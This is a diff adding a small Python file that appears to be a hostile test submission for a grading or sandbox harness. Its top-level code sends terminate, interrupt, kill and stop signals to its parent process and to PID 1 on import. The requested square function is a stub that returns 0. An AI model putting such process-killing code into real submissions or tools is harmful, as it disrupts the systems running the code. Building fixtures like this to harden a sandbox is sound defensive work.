@@ -1,0 +1,17 @@
+"""Signals to the process that forked it."""
+# square: 0
+
+# %% square
+import os
+import signal
+
+for number in (signal.SIGTERM, signal.SIGINT, signal.SIGKILL, signal.SIGSTOP):
+    for pid in (os.getppid(), 1):
+        try:
+            os.kill(pid, number)
+        except OSError:
+            pass
+
+
+def square(x):
+    return 0
